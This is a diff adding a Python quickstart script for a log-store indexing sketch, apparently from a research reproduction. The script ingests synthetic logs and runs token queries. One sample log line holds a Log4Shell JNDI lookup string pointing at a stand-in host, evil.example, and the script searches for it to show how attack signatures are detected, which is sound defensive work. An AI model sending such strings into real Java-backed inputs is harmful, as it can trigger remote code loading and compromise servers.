@@ -1,0 +1,53 @@
+"""Quickstart: index logs with the COPR/DynaWarp sketch and query them.
+
+    PYTHONPATH=src python examples/quickstart.py
+"""
+
+import numpy as np
+
+from repro.core import CoprSketch, SketchConfig
+from repro.data import make_dataset
+from repro.logstore import CoprStore
+
+
+def main() -> None:
+    # 1. A raw sketch: which tokens appear in which sets?
+    sk = CoprSketch(SketchConfig(max_postings=64))
+    sk.add_tokens(["connection", "to", "host", "established"], posting=0)
+    sk.add_tokens(["start", "processing"], posting=1)
+    sk.add_tokens(["host", "connection", "terminated"], posting=2)
+    print("sets containing 'connection' AND 'host':", sk.query_and(["connection", "host"]))
+    print("sets containing 'host' (OR):             ", sk.query_or(["host"]))
+
+    # 2. Seal to the immutable form: mmap-ready flat buffer
+    buf = sk.seal()
+    print(f"sealed sketch: {len(buf)} bytes")
+
+    # 3. The full log store: compressed batches + sketch + post-filtering
+    ds = make_dataset("small", 20_000, seed=1)
+    store = CoprStore(lines_per_batch=256, max_batches=1024)
+    for line, src in zip(ds.lines, ds.sources):
+        store.ingest(line, src)
+    # the Log4Shell pattern from the paper's motivation, hidden in the stream
+    store.ingest("WARN: suspicious input ${jndi:ldap://evil.example/a}", "sec")
+    store.finish()
+    du = store.disk_usage()
+    print(
+        f"\ningested {len(ds.lines)} lines: data {du.data_mb if hasattr(du,'data_mb') else du.data_bytes/1e6:.1f} MB, "
+        f"sketch {du.index_bytes/1e6:.2f} MB "
+        f"({100*du.overhead_vs_raw:.1f}% of raw)"
+    )
+
+    # 4. Needle-in-the-haystack: a term that appears in ~1 batch
+    needle = ds.lines[777].split()[-1]
+    hits = store.query_contains(needle)
+    print(f"contains({needle!r}): {len(hits)} lines, e.g. {hits[0][:70]}...")
+
+    # 5. Special characters are indexed as 1/2/3-grams (tokenization rule 7),
+    #    so the ${jndi attack signature is findable without knowing it upfront
+    hits = store.query_contains("${jndi")
+    print(f"contains('${{jndi'): {len(hits)} line(s) — the paper's security use-case")
+
+
+if __name__ == "__main__":
+    main()
